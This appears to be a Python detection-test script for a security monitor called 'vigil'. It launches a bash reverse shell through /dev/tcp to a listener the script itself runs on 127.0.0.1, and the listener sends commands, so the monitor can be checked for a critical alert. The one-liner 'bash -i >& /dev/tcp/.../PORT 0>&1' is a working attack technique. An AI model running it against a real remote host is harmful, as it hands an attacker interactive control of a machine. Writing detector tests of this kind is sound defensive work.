# technique: T1059.004 T1095
"""Reverse shell in command text: bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 (T1059.004, T1095).

The socket is opened by bash itself through its /dev/tcp pseudo-path,
never by Python: vigil sees no socket event for the shell's connection,
only the argument vector given to subprocess (argv form, no shell=True,
bash named explicitly).

A good detector raises a critical alert: a shell command line that
redirects an interactive shell to /dev/tcp.
"""
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
subprocess.run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port], timeout=5,
               stderr=subprocess.DEVNULL)
operator.join(3)
print("operator transcript:", transcript)
